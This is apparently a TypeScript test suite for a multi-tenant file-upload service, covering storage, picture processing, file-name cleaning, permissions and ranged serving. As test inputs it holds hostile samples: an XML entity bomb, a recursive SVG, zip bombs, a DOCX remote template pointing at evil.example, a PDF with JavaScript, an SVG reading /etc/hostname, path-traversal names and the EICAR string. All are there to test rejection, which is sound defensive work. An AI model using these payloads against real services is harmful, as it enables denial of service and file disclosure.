import { mkdtemp, readdir, rm } from 'node:fs/promises'
import type { CallError } from '#model/calls/call.ts'
import { request } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import { PDFDocument } from 'pdf-lib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { FileEntry, FileStored, UploadAnswer } from '#model/calls/files.ts'
import type { CallName } from '#model/calls/paths.ts'
import { asOwner } from '#tests/support/as-owner.ts'
import { openFileStore } from '#server/files/open-file-store.ts'
import { build, buildAccount, buildGroup, buildTenant, buildUser } from '#tests/support/builders.ts'
import { closeAfterAll } from '#tests/support/close-after-all.ts'
import { multipartOf } from '#tests/support/multipart.ts'
import {
  buildBmp,
  buildDocx,
  buildOdt,
  buildPdf,
  buildPicture,
  buildZip,
} from '#tests/support/sample-files.ts'
import { startS3Server } from '#tests/support/s3-server.ts'
import { openTestDatabase } from '#tests/support/test-database.ts'
import { buildTestServer, givePasswords } from '#tests/support/test-server.ts'
import type { Visitor } from '#tests/support/test-server.ts'

const id: Record<string, string> = {}
const who: Record<string, Visitor> = {}
const hosts: Record<string, string> = {}

// Tests of other files upload at the same time: this one looks into a temporary folder of its own.
const temporary = process.env['TMPDIR']

afterAll(async () => {
  if (temporary === undefined) delete process.env['TMPDIR']
  else process.env['TMPDIR'] = temporary
})
const quarantine = await mkdtemp(join(tmpdir(), 'portico-quarantine-'))
afterAll(() => rm(quarantine, { recursive: true }))
process.env['TMPDIR'] = quarantine
const database = await openTestDatabase()
const home = await buildTenant(database, 'partner-firm')
const other = await buildTenant(database, 'partner-firm')
await buildUser(home, { email: 'admin@home.example', isAdmin: true, isProfessional: true })
const adviser = await buildUser(home, {
  name: 'Person adviser',
  email: 'adviser@home.example',
  isProfessional: true,
})
const narrow = await buildUser(home, { email: 'narrow@home.example', isProfessional: true })
const client = await buildUser(home, { name: 'Person client', email: 'client@home.example' })
const stranger = await buildUser(home, { email: 'stranger@home.example' })
await buildUser(other, { email: 'abroad@home.example', isAdmin: true, isProfessional: true })
id['client'] = client
id['account'] = await buildAccount(home, { name: 'Clara Client', client, owner: [adviser] })
id['other'] = await buildAccount(home, { name: 'Stan Stranger', client: stranger, owner: [adviser] })
id['group'] = await buildGroup(home, { name: 'Readers' })
id['library'] = await build(home, 'libraries', { name: 'Pictures' })
await build(home, 'groupMembers', {
  group: id['group'],
  account: id['account'],
  memberSince: '2026-01-01T00:00:00Z',
})
await build(home, 'accessGroups', { name: 'Narrow', team: [narrow], clients: [id['other']] })
await givePasswords(database, home.tenantId)
await givePasswords(database, other.tenantId)
const server = await closeAfterAll(buildTestServer(database))
const host = `${home.tenantId}.portico.example`
const abroad = `${other.tenantId}.portico.example`
who['nobody'] = server.visit(host)
for (const name of ['admin', 'adviser', 'narrow', 'client', 'stranger']) {
  who[name] = await server.signIn(host, `${name}@home.example`)
  hosts[name] = host
}
who['abroad'] = await server.signIn(abroad, 'abroad@home.example')
Object.assign(hosts, { nobody: host, abroad })

const ask = async (person: string, name: CallName, given: Parameters<Visitor['ask']>[1] = {}) => {
  const answer = await who[person]?.ask(name, given)
  if (answer === undefined) throw new Error(`nobody called ${person}`)
  return { status: answer.statusCode, body: answer.json<Record<string, unknown>>() }
}
const send = async (person: string, options: object, name: string, content: Buffer | string) => {
  const { status, body } = await ask(person, 'uploadFile', multipartOf(options, { name, content }))
  return { status, body: body as unknown as UploadAnswer }
}
const store = async (person: string, options: object, name: string, content: Buffer | string) => {
  const { body } = await send(person, options, name, content)
  if (body.outcome !== 'stored') throw new Error(`not stored: ${JSON.stringify(body)}`)
  return body
}
const get = (person: string, url: string, headers: Record<string, string> = {}) => {
  const cookie = who[person]?.cookie
  return server.app.inject({
    method: 'GET',
    url,
    headers: { host: hosts[person] ?? '', ...(cookie ? { cookie } : {}), ...headers },
  })
}

describe('an upload', () => {
  it('is kept at an address of its name and time, and read again', async () => {
    const content = buildPdf()
    const { file, entry } = await store('adviser', { purpose: 'media' }, 'Ársskýrsla 2026.pdf', content)
    expect(file).toEqual({
      url: expect.stringMatching(/^\/files\/media\/arsskyrsla-2026-\d{13}\//),
      name: 'Ársskýrsla 2026.pdf',
      created: expect.any(String),
    })
    expect(entry).toMatchObject({
      mediaType: 'application/pdf',
      size: content.length,
      level: 'authenticated',
    })
    const answer = await get('client', file.url)
    expect(answer.statusCode).toBe(200)
    expect(answer.rawPayload.equals(content)).toBe(true)
    expect(answer.headers).toMatchObject({
      'content-type': 'application/pdf',
      'content-disposition': `attachment; filename="Arsskyrsla 2026.pdf"; filename*=UTF-8''%C3%81rssk%C3%BDrsla%202026.pdf`,
      'x-content-type-options': 'nosniff',
      'content-security-policy': expect.stringContaining('sandbox'),
      'cache-control': 'private, no-cache',
    })
  })

  it('of the same name at the same moment is another file', async () => {
    const one = await store('adviser', { purpose: 'media' }, 'twin.pdf', buildPdf('one'))
    const two = await store('adviser', { purpose: 'media' }, 'twin.pdf', buildPdf('two'))
    expect(one.file.url).not.toBe(two.file.url)
    expect((await get('adviser', one.file.url)).rawPayload.equals(buildPdf('one'))).toBe(true)
  })

  it('asks visitors to sign in, and is bad input without options or a file', async () => {
    expect((await send('nobody', { purpose: 'media' }, 'a.pdf', buildPdf())).status).toBe(401)
    expect((await send('adviser', { purpose: 'theft' }, 'a.pdf', buildPdf())).status).toBe(400)
    expect((await send('adviser', { purpose: 'media', frobnicate: 1 }, 'a.pdf', buildPdf())).status).toBe(400)
    expect((await ask('adviser', 'uploadFile', { body: {} })).status).toBe(400)
  })
})

describe('pictures', () => {
  it('are turned upright, lose what the camera wrote, and get a small version', async () => {
    const photo = await sharp(await buildPicture('jpeg', { width: 3000, height: 1500 }))
      .withExif({ IFD0: { Copyright: 'Someone secret' }, IFD3: { GPSLatitude: '51/1 30/1 0/1' } })
      .withMetadata({ orientation: 6 })
      .toBuffer()
    const { file, entry } = await store('client', { purpose: 'photo' }, 'Me.JPG', photo)
    expect(entry).toMatchObject({ mediaType: 'image/jpeg', width: 1280, height: 2560 })
    const { rawPayload } = await get('client', file.url)
    expect(await sharp(rawPayload).metadata()).not.toHaveProperty('exif')
    expect(rawPayload.includes('Someone secret')).toBe(false)
    const small = await get('client', `${file.url}?size=thumbnail`)
    expect(small.headers['content-type']).toBe('image/webp')
    expect(await sharp(small.rawPayload).metadata()).toMatchObject({
      format: 'webp',
      width: 160,
      height: 320,
    })
  })

  it.each([
    ['gif', 'image/gif', 'a.gif'],
    ['webp', 'image/webp', 'a.webp'],
    ['png', 'image/png', 'a.png'],
  ] as const)('stay %s', async (format, mediaType, name) => {
    const { entry } = await store('client', { purpose: 'photo' }, name, await buildPicture(format))
    expect(entry).toMatchObject({ name, mediaType, width: 640, height: 480 })
  })

  it('that move keep moving', async () => {
    const frames = Buffer.alloc(20 * 40 * 3)
    frames.fill(255, 0, 20 * 20 * 3)
    const gif = await sharp(frames, { raw: { width: 20, height: 40, channels: 3, pageHeight: 20 } })
      .gif()
      .toBuffer()
    const { file, entry } = await store('client', { purpose: 'photo' }, 'a.gif', gif)
    expect(entry).toMatchObject({ width: 20, height: 20 })
    const kept = await sharp((await get('client', file.url)).rawPayload, { animated: true }).metadata()
    expect(kept.pages).toBe(2)
  })

  it('of BMP and SVG become PNG', async () => {
    const bmp = await store('client', { purpose: 'photo' }, 'old.bmp', buildBmp())
    expect(bmp.entry).toMatchObject({ name: 'old.png', mediaType: 'image/png', width: 4, height: 4 })
    const { data } = await sharp((await get('client', bmp.file.url)).rawPayload)
      .raw()
      .toBuffer({ resolveWithObject: true })
    expect([...data.subarray(0, 3), ...data.subarray(-3)]).toEqual([255, 0, 0, 0, 0, 255])
    const drawn =
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="30" height="20"><rect width="30" height="20" fill="red"/></svg>'
    const svg = await store('adviser', { purpose: 'logo' }, 'logo.svg', drawn)
    expect(svg.entry).toMatchObject({ name: 'logo.png', mediaType: 'image/png', width: 30, level: 'public' })
  })
})

const drawing = (parts: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${parts}</svg>`
/** Each pattern draws the next one ten times on each side. */
const endless = drawing(
  `${Array.from({ length: 9 }, (_, n) => `<g id="g${n}">${`<use xlink:href="#g${n + 1}"/>`.repeat(20)}</g>`).join('')}<g id="g9"><circle r="9"/></g><use xlink:href="#g0"/>`,
)
const remoteTemplate =
  '<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
const testVirus = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
const laughs = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${'ha'.repeat(500)}">${Array.from('bcdefgh', (name, index) => `<!ENTITY ${name} "${`&${'abcdefg'[index]};`.repeat(20)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&h;</text></svg>`

describe('what is not accepted', () => {
  const png = () => buildPicture('png')
  it.each<[string, object, string, () => Buffer | string | Promise<Buffer>, string]>([
    ['nothing', {}, 'a.pdf', () => '', 'empty'],
    ['a program', {}, 'a.exe', () => 'MZ\0\0', 'type-refused'],
    ['an archive', {}, 'a.zip', () => buildZip([{ name: 'a', content: 'a' }]), 'type-refused'],
    ['a page', {}, 'a.html', () => '<html>', 'type-refused'],
    ['a name without an ending', {}, 'statement', () => buildPdf(), 'type-refused'],
    ['a hidden ending', {}, 'a.pdf\u202Egpj.exe', () => buildPdf(), 'type-refused'],
    ['a page that says it is text', {}, 'a.txt', () => '  <!doctype html><script>1</script>', 'type-differs'],
    ['a program that says it is text', {}, 'a.txt', () => 'MZ\0\0', 'type-differs'],
    ['a PNG that says it is JPEG', {}, 'a.jpg', png, 'type-differs'],
    [
      'an archive that says it is a document',
      {},
      'a.docx',
      () => buildZip([{ name: 'a', content: 'a' }]),
      'type-differs',
    ],
    [
      'a document with macros',
      {},
      'a.docx',
      () => buildDocx([{ name: 'word/vbaProject.bin', content: 'x' }]),
      'office-macros',
    ],
    [
      'a document with a way out',
      {},
      'a.docx',
      () => buildDocx([{ name: '../../evil', content: 'x' }]),
      'type-differs',
    ],
    ['a document behind a PDF', {}, 'a.docx', () => Buffer.concat([buildPdf(), buildDocx()]), 'type-differs'],
    [
      'a PDF with an archive behind it',
      {},
      'a.pdf',
      () => Buffer.concat([buildPdf(), buildDocx()]),
      'document-broken',
    ],
    ['half a PDF', {}, 'a.pdf', () => buildPdf().subarray(0, 150), 'document-broken'],
    [
      'a page with the head of a PDF',
      {},
      'a.pdf',
      () => '%PDF-1.4\n<html><script>1</script>',
      'document-broken',
    ],
    [
      'a bomb by its ratio',
      {},
      'a.docx',
      () => buildDocx([{ name: 'b', content: Buffer.alloc(20_000_000) }]),
      'document-too-large',
    ],
    [
      'a bomb by its size',
      {},
      'a.docx',
      () => buildDocx([{ name: 'b', content: 'b', claims: 4_000_000_000 }]),
      'document-too-large',
    ],
    ['half a picture', {}, 'a.png', async () => (await png()).subarray(0, 300), 'image-broken'],
    ['a picture of nothing', {}, 'a.gif', () => 'GIF89a<script>alert(1)</script>', 'image-broken'],
    [
      'too many pixels',
      {},
      'a.png',
      () => buildPicture('png', { width: 6000, height: 5000 }),
      'image-too-large',
    ],
    ['a BMP that is too short', {}, 'a.bmp', () => buildBmp(9, 9).subarray(0, 100), 'image-broken'],
    ['laughs', { purpose: 'logo' }, 'a.svg', () => laughs, 'type-differs'],
    ['a drawing of a client', { purpose: 'photo' }, 'a.svg', () => drawing(''), 'type-refused'],
    ['a drawing with a script', { purpose: 'logo' }, 'a.svg', () => drawing('<script/>'), 'drawing-active'],
    [
      'a drawing that shows a file of the server',
      { purpose: 'logo' },
      'a.svg',
      () => drawing('<image xlink:href="file:///etc/hostname"/>'),
      'drawing-active',
    ],
    [
      'a PDF with a script',
      {},
      'a.pdf',
      () => buildPdf('a', { catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
      'pdf-script',
    ],
    [
      'a document with a template from elsewhere',
      {},
      'a.docx',
      () => buildDocx([{ name: 'word/_rels/settings.xml.rels', content: remoteTemplate }]),
      'office-elsewhere',
    ],
    ['the test of scanners', {}, 'a.txt', () => testVirus, 'virus'],
    ['a document as a photo', { purpose: 'photo' }, 'a.pdf', () => buildPdf(), 'type-refused'],
  ])('%s', async (...[, options, name, content, reason]) => {
    const { status, body } = await send('adviser', { purpose: 'media', ...options }, name, await content())
    expect(body).toMatchObject({ outcome: 'refused', reason, message: expect.stringMatching(/\w{3}/) })
    expect(status).toBe(200)
  })

  it('more than 25 MB', async () => {
    const { body } = await send(
      'adviser',
      { purpose: 'media' },
      'a.pdf',
      Buffer.alloc(25 * 1024 * 1024 + 1, 'a'),
    )
    expect(body).toMatchObject({ outcome: 'refused', reason: 'too-large' })
  })

  it('is a drawing that takes for ever; other firms do not wait for it', async () => {
    let ended = 0
    const flood = Array.from({ length: 2 }, async () => {
      const { body } = await send('adviser', { purpose: 'logo' }, 'a.svg', endless)
      ended += 1
      return body
    })
    const small = await buildPicture('png', { width: 2, height: 2 })
    const { body } = await send('abroad', { purpose: 'photo' }, 'small.png', small)
    expect(ended).toBe(0)
    expect(body).toMatchObject({ outcome: 'stored' })
    for (const refused of await Promise.all(flood)) expect(refused).toMatchObject({ reason: 'too-complex' })
  }, 90_000)

  it('is one file too many of a person at a time, said in words', async () => {
    const half = (await png()).subarray(0, 300)
    const all = await Promise.all(
      Array.from({ length: 20 }, () => send('adviser', { purpose: 'media' }, 'a.png', half)),
    )
    const reasons = all.map(({ body }) => (body.outcome === 'refused' ? body.reason : body.outcome))
    expect(new Set(reasons)).toEqual(new Set(['image-broken', 'busy']))
    expect(reasons.filter((reason) => reason === 'image-broken').length).toBeGreaterThanOrEqual(12)
    const busy = all.find(({ body }) => body.outcome === 'refused' && body.reason === 'busy')
    expect(busy?.body).toMatchObject({ message: expect.stringContaining('Try again') })
  }, 60_000)

  it('leaves nothing in quarantine and nothing in the store', async () => {
    const left = async () => (await readdir(quarantine)).filter((name) => name.startsWith('portico-upload-'))
    expect(await left()).toEqual([])
    const before = await count()
    await send('adviser', { purpose: 'media' }, 'a.jpg', await png())
    await send('adviser', { purpose: 'media' }, 'a.png', (await png()).subarray(0, 300))
    expect(await count()).toBe(before)
    expect(await left()).toEqual([])
  })
})

const count = async () => {
  const keys: string[] = []
  for await (const { key } of server.parts.files.list(`${host.split('.')[0]}/`)) keys.push(key)
  return keys.length
}

describe('names of files', () => {
  it.each([
    ['../../etc/passwd.pdf', 'passwd.pdf'],
    ['C:\\Users\\me\\tax.pdf', 'tax.pdf'],
    ['.hidden. .pdf', 'hidden.pdf'],
    [`${'x'.repeat(600)}.pdf`, `${'x'.repeat(146)}.pdf`],
    ['fdp.\u202Ereport.pdf', 'fdp.report.pdf'],
    ['a\u0000b\u200Bc.pdf', 'abc.pdf'],
    ['100% <b>?.pdf', '100% -b--.pdf'],
    ['λογαριασμός (τελικός) #1.pdf', 'λογαριασμός (τελικός) #1.pdf'],
  ])('%j is shown as %j, and its address works', async (name, shown) => {
    const { file } = await store('adviser', { purpose: 'media' }, name, buildPdf(name))
    expect(file.name).toBe(shown)
    expect(file.url).toMatch(/^\/files\/media\/[a-zA-Z0-9%.~_-]+-\d{13}\/[a-zA-Z0-9%.~_-]+$/)
    expect((await get('adviser', file.url)).rawPayload.equals(buildPdf(name))).toBe(true)
  })
})

describe('the library', () => {
  const at = () => ({ purpose: 'library', account: id['account'] })

  it('keeps PDFs under the account, and makes pictures a PDF of one page', async () => {
    const pdf = await store('adviser', at(), 'Statement.pdf', buildPdf())
    expect(pdf.file.url).toBe(`/files/accounts/${id['account']}/Statement.pdf`)
    const picture = await store('adviser', at(), 'Scan.jpeg', await buildPicture('jpeg'))
    expect(picture.file).toMatchObject({ name: 'Scan.pdf', url: `/files/accounts/${id['account']}/Scan.pdf` })
    const { rawPayload, headers } = await get('client', picture.file.url)
    expect(headers['content-type']).toBe('application/pdf')
    expect(rawPayload.includes('/DCTDecode')).toBe(true)
    const pages = (await PDFDocument.load(rawPayload)).getPages()
    expect(pages.map((page) => page.getSize())).toEqual([{ width: 841.89, height: 595.28 }])
  })

  it('refuses what can be no PDF', async () => {
    for (const [name, content] of [
      ['a.docx', buildDocx()],
      ['a.txt', 'text'],
      ['a.gif', await buildPicture('gif')],
    ] as const)
      expect((await send('adviser', at(), name, content)).body).toEqual({
        outcome: 'refused',
        reason: 'type-refused',
        message: 'Missing or incorrect information',
      })
  })

  it('asks what to do with a name that is there: a copy with a number, or a replacement', async () => {
    const first = await store('adviser', at(), 'Plan.pdf', buildPdf('first'))
    expect((await send('adviser', at(), 'Plan.pdf', buildPdf('second'))).body).toEqual({
      outcome: 'duplicate',
      name: 'Plan (1).pdf',
      message: 'Duplicated filename choose between copy or replace',
    })
    const copy = await store('adviser', { ...at(), choice: 'copy' }, 'Plan.pdf', buildPdf('second'))
    expect(copy.file.name).toBe('Plan (1).pdf')
    const again = await store('adviser', { ...at(), choice: 'copy' }, 'Plan.pdf', buildPdf('third'))
    expect(again.file.name).toBe('Plan (2).pdf')
    const kept = await count()
    const replaced = await store('adviser', { ...at(), choice: 'replace' }, 'Plan.pdf', buildPdf('fourth'))
    expect(replaced).toMatchObject({
      file: { url: first.file.url },
      entry: { id: first.entry.id, version: 2 },
    })
    expect(await count()).toBe(kept + 1)
    expect((await get('client', first.file.url)).rawPayload.equals(buildPdf('fourth'))).toBe(true)
    expect((await get('client', copy.file.url)).rawPayload.equals(buildPdf('second'))).toBe(true)
  })

  it('keeps what was replaced for the firm, with who replaced it, until the file is removed', async () => {
    const first = await store('client', at(), 'Will.pdf', buildPdf('first'))
    const id = first.entry.id
    await store('client', { ...at(), choice: 'replace' }, 'Will.pdf', buildPdf('second'))
    await store('adviser', { ...at(), choice: 'replace' }, 'Will.pdf', buildPdf('third'))
    const versions = async (person: string) =>
      (await ask(person, 'listFiles', { query: { versionsOf: id } })).body['files'] as FileEntry[]
    const kept = await versions('adviser')
    expect(kept.map(({ replaced }) => replaced)).toEqual([
      { at: expect.any(String), name: 'Person adviser' },
      { at: expect.any(String), name: 'Person client' },
    ])
    const contents = await Promise.all(kept.map(async ({ url }) => (await get('adviser', url)).rawPayload))
    expect(contents).toEqual([buildPdf('second'), buildPdf('first')])
    expect((await get('adviser', first.file.url)).rawPayload.equals(buildPdf('third'))).toBe(true)
    expect(await versions('client')).toEqual([])
    for (const person of ['client', 'stranger', 'narrow', 'abroad', 'nobody'])
      expect((await get(person, kept[0]?.url ?? '')).statusCode, person).toBe(404)
    const bytes = await count()
    expect((await ask('client', 'removeFile', { params: { file: id } })).status).toBe(403)
    expect((await ask('adviser', 'removeFile', { params: { file: id } })).status).toBe(200)
    expect(await count()).toBe(bytes - 3)
  })

  it('lets a client replace no document of somebody else, and nothing of it is kept', async () => {
    const letter = await store('adviser', at(), 'Agreement.pdf', buildPdf('true'))
    const kept = await count()
    const forged = await ask(
      'client',
      'uploadFile',
      multipartOf({ ...at(), choice: 'replace' }, { name: 'Agreement.pdf', content: buildPdf('forged') }),
    )
    expect(forged).toMatchObject({ status: 403, body: { error: { code: 'not-yours' } } })
    expect((await get('client', letter.file.url)).rawPayload.equals(buildPdf('true'))).toBe(true)
    expect(await count()).toBe(kept)
  })

  it('gives every one of many uploads at once a name of its own', async () => {
    const uploads = Array.from({ length: 4 }, (_, n) =>
      store('adviser', { ...at(), choice: 'copy' }, 'Rush.pdf', buildPdf(String(n))),
    )
    const names = (await Promise.all(uploads)).map(({ file }) => file.name)
    expect(names.sort()).toEqual(['Rush (1).pdf', 'Rush (2).pdf', 'Rush (3).pdf', 'Rush.pdf'])
  })

  it('keeps documents of a group for its members', async () => {
    const { file } = await store(
      'adviser',
      { purpose: 'library', group: id['group'] },
      'News.pdf',
      buildPdf(),
    )
    expect(file.url).toBe(`/files/groups/${id['group']}/News.pdf`)
    expect((await get('client', file.url)).statusCode).toBe(200)
    expect((await get('stranger', file.url)).statusCode).toBe(404)
  })

  const open = (permissions: { level: string; ids: unknown[] }) =>
    asOwner({ owner: database.owner }, (owner) =>
      owner.query('update libraries set permissions = $1 where id = $2', [permissions, id['library']]),
    )

  it('keeps media of a library among the media, as open as the library is', async () => {
    const { file } = await store(
      'adviser',
      { purpose: 'library', library: id['library'] },
      'A.pdf',
      buildPdf(),
    )
    expect(file.url).toMatch(/^\/files\/media\/a-\d+\/A\.pdf$/)
    const statuses = async () => [
      (await get('client', file.url)).statusCode,
      (await get('stranger', file.url)).statusCode,
    ]
    expect(await statuses()).toEqual([200, 200])
    await open({ level: 'users', ids: [id['client']] })
    expect(await statuses()).toEqual([200, 404])
    await open({ level: 'hidden', ids: [] })
    expect(await statuses()).toEqual([404, 404])
  })
})

describe('files of forms', () => {
  it('are kept under the form, never over another, and read by the account and its advisers', async () => {
    const form = await build({ database, tenantId: host.split('.')[0] ?? '' }, 'forms', {
      name: 'Onboarding',
    })
    const one = await store('client', { purpose: 'form', formId: form }, 'passport.pdf', buildPdf('client'))
    expect(one.file.url).toBe(`/files/${form}/passport.pdf`)
    expect(one.entry.account).toBe(id['account'])
    const two = await store('stranger', { purpose: 'form', formId: form }, 'passport.pdf', buildPdf('other'))
    expect(two.file.name).toBe('passport (1).pdf')
    const readers = async (url: string) => {
      const people = ['nobody', 'client', 'stranger', 'adviser', 'narrow', 'admin', 'abroad']
      const answers = await Promise.all(people.map(async (one) => (await get(one, url)).statusCode === 200))
      return people.filter((_, index) => answers[index])
    }
    expect(await readers(one.file.url)).toEqual(['client', 'adviser', 'admin'])
    expect(await readers(two.file.url)).toEqual(['stranger', 'adviser', 'narrow', 'admin'])
    const general = await store('client', { purpose: 'form' }, 'note.txt', 'Hello\n')
    expect(general.file.url).toBe('/files/General/note.txt')
  })

  it('that were never sent are found again when the form is begun again, and kept apart once they are sent', async () => {
    const home = { database, tenantId: host.split('.')[0] ?? '' }
    const form = await build(home, 'forms', { name: 'Begun twice' })
    const again = () => store('client', { purpose: 'form', formId: form }, 'small.pdf', buildPdf('small'))
    const first = await again()
    expect((await again()).file).toEqual(first.file)
    const other = await store('client', { purpose: 'form', formId: form }, 'small.pdf', buildPdf('another'))
    expect(other.file.name).toBe('small (1).pdf')
    const sent = { formId: form, account: id['account'] ?? null, answers: { paper: [first.file] } }
    const byClient = { createdBy: id['client'] ?? '' }
    await build(home, 'submissions', { ...sent, ...byClient })
    expect((await again()).file.name).toBe('small (2).pdf')
  })

  it('and attachments of a client are for the advisers of the account, nobody else’s client', async () => {
    const { file, entry } = await store('client', { purpose: 'attachment' }, 'letter.pdf', buildPdf())
    expect(entry).toMatchObject({ account: id['account'], level: 'staff' })
    expect((await get('adviser', file.url)).statusCode).toBe(200)
    expect((await get('stranger', file.url)).statusCode).toBe(404)
  })

  it('of a form that is not there are refused', async () => {
    const options = { purpose: 'form', formId: '00000000-0000-7000-8000-000000000000' }
    expect((await send('client', options, 'a.pdf', buildPdf())).status).toBe(404)
  })
})

describe('who may do what', () => {
  it.each<[string, Record<string, string>, number]>([
    ['client', { purpose: 'media' }, 403],
    ['client', { purpose: 'logo' }, 403],
    ['client', { purpose: 'photo', level: 'public' }, 403],
    ['client', { purpose: 'library', account: 'other' }, 404],
    ['client', { purpose: 'library', group: 'group' }, 403],
    ['client', { purpose: 'library' }, 400],
    ['narrow', { purpose: 'library', account: 'account' }, 404],
    ['abroad', { purpose: 'attachment', account: 'account' }, 404],
    ['client', { purpose: 'library', account: 'account' }, 200],
  ])('%s with %j is answered %i', async (person, { account, group, ...options }, status) => {
    const ids = { ...(account ? { account: id[account] } : {}), ...(group ? { group: id[group] } : {}) }
    expect((await send(person, { ...options, ...ids }, 'Mine.pdf', buildPdf())).status).toBe(status)
  })

  it('what one may not read is answered like what is not there', async () => {
    const { file } = await store(
      'adviser',
      { purpose: 'attachment', account: id['account'] },
      'a.pdf',
      buildPdf(),
    )
    expect((await get('client', file.url)).statusCode).toBe(200)
    const missing = await get('stranger', '/files/media/nothing-1/a.pdf')
    for (const person of ['nobody', 'stranger', 'narrow', 'abroad']) {
      const answer = await get(person, file.url)
      const { error } = missing.json<CallError>()
      expect(answer.statusCode).toBe(404)
      expect(answer.json()).toEqual({ error: { ...error, requestId: expect.any(String) } })
      expect(answer.headers['etag']).toBeUndefined()
    }
  })

  it.each(['/files/', '/files/..%2f..%2fetc%2fpasswd', '/files/media/%00', '/files/%E0%A4%A'])(
    'nothing is at %s',
    async (url) => {
      expect((await get('admin', url)).statusCode).toBeGreaterThanOrEqual(400)
      expect((await get('admin', url)).statusCode).toBeLessThan(500)
    },
  )
})

describe('serving', () => {
  it('sends parts, nothing when nothing changed, and only heads when asked', async () => {
    const content = buildPdf('parts')
    const { file } = await store('adviser', { purpose: 'media' }, 'parts.pdf', content)
    const part = await get('client', file.url, { range: 'bytes=0-3' })
    expect([
      part.statusCode,
      part.body,
      part.headers['content-range'],
      part.headers['content-length'],
    ]).toEqual([206, '%PDF', `bytes 0-3/${content.length}`, '4'])
    expect((await get('client', file.url, { range: 'bytes=-6' })).body).toBe('%%EOF\n')
    expect((await get('client', file.url, { range: `bytes=${content.length - 6}-` })).body).toBe('%%EOF\n')
    expect((await get('client', file.url, { range: 'bytes=0-1,4-5' })).statusCode).toBe(200)
    const beyond = await get('client', file.url, { range: 'bytes=999999-' })
    expect([beyond.statusCode, beyond.headers['content-range']]).toEqual([416, `bytes */${content.length}`])
    const etag = String((await get('client', file.url)).headers['etag'])
    expect((await get('client', file.url, { 'if-none-match': etag })).statusCode).toBe(304)
    expect((await get('client', file.url, { range: 'bytes=0-3', 'if-range': '"other"' })).statusCode).toBe(
      200,
    )
    const { cookie } = who['client'] as Visitor
    const head = await server.app.inject({
      method: 'HEAD',
      url: file.url,
      headers: { host, cookie: cookie ?? '' },
    })
    expect([head.statusCode, head.headers['content-length'], head.body]).toEqual([
      200,
      String(content.length),
      '',
    ])
  })

  it('shows pictures and PDFs where asked, and hands out everything else', async () => {
    const shown = async (name: string, content: Buffer | string) => {
      const { file } = await store('adviser', { purpose: 'media' }, name, content)
      const { headers } = await get('client', `${file.url}?inline=yes`)
      return [String(headers['content-disposition']).split(';')[0], headers['content-type']]
    }
    expect(await shown('a.pdf', buildPdf())).toEqual(['inline', 'application/pdf'])
    expect(await shown('a.png', await buildPicture('png'))).toEqual(['inline', 'image/png'])
    expect(await shown('a.csv', 'name,value\na,1\n')).toEqual(['attachment', 'text/plain; charset=utf-8'])
    expect((await shown('a.odt', buildOdt()))[0]).toBe('attachment')
    expect((await shown('a.docx', buildDocx()))[0]).toBe('attachment')
  })

  it('has no small version of what is no picture', async () => {
    const { file } = await store('adviser', { purpose: 'media' }, 'a.pdf', buildPdf())
    expect((await get('adviser', `${file.url}?size=thumbnail`)).statusCode).toBe(404)
  })
})

describe('over the network', () => {
  const post = (options: object, content: Buffer) => {
    const { port } = server.app.server.address() as AddressInfo
    const { body, headers } = multipartOf(options, { name: 'a.pdf', content })
    const cookie = who['adviser']?.cookie ?? ''
    const all = { ...headers, host, origin: `http://${host}`, cookie, 'content-length': body.length }
    return new Promise<{ status: number | undefined; text: string }>((resolve, reject) => {
      const sending = { port, host: '127.0.0.1', path: '/api/files', method: 'POST', headers: all }
      const asked = request(sending, (answer) => {
        text(answer).then((read) => resolve({ status: answer.statusCode, text: read }), reject)
      })
      asked.on('error', reject).end(body)
    })
  }
  beforeAll(() => server.app.listen({ port: 0, host: '127.0.0.1' }))

  it('a refusal reaches whoever sends a large file', async () => {
    const large = Buffer.alloc(30 * 1024 * 1024, 'a')
    expect(await post({ purpose: 'media' }, large)).toMatchObject({
      status: 200,
      text: expect.stringContaining('too-large'),
    })
    expect(await post({ purpose: 'theft' }, large.subarray(0, 20 * 1024 * 1024))).toMatchObject({
      status: 400,
    })
    expect(await post({ purpose: 'media' }, buildPdf())).toMatchObject({
      text: expect.stringContaining('stored'),
    })
  })
})

describe('files in a bucket', () => {
  it('are stored, read in parts and removed like those in a folder', async () => {
    const s3 = await startS3Server()
    const files = await openFileStore({ filesUrl: s3.url, stateDir: '/nowhere' })
    const other = await buildTestServer(database, { files })
    const admin = await other.signIn(host, 'admin@home.example')
    const content = await buildPicture('png')
    const answer = await admin.ask(
      'uploadFile',
      multipartOf({ purpose: 'media' }, { name: 'a.png', content }),
    )
    const { file, entry } = answer.json<FileStored>()
    expect(s3.objects.size).toBe(2)
    const headers = { host, cookie: admin.cookie ?? '' }
    const part = await other.app.inject({ url: file.url, headers: { ...headers, range: 'bytes=1-3' } })
    expect([part.statusCode, part.body]).toEqual([206, 'PNG'])
    const small = await other.app.inject({ url: `${file.url}?size=thumbnail`, headers })
    expect([small.statusCode, small.rawPayload.toString('latin1', 8, 12)]).toEqual([200, 'WEBP'])
    await admin.ask('removeFile', { params: { file: entry.id } })
    expect(s3.objects.size).toBe(0)
    await other.close()
    await s3.close()
  })
})

describe('files that are there', () => {
  it('are listed by the beginning of their path to whom may read them', async () => {
    const prefix = `/accounts/${id['account']}/`
    for (const name of ['L1.pdf', 'L2.pdf'])
      await store('adviser', { purpose: 'library', account: id['account'] }, name, buildPdf())
    const listed = async (person: string, query: Record<string, string> = { prefix }) => {
      const { body } = await ask(person, 'listFiles', { query })
      return (body['files'] as FileEntry[]).map(({ name }) => name)
    }
    expect(await listed('client')).toEqual(expect.arrayContaining(['L1.pdf', 'L2.pdf']))
    expect(await listed('stranger')).toEqual([])
    expect(await listed('abroad', {})).toEqual(['small.png'])
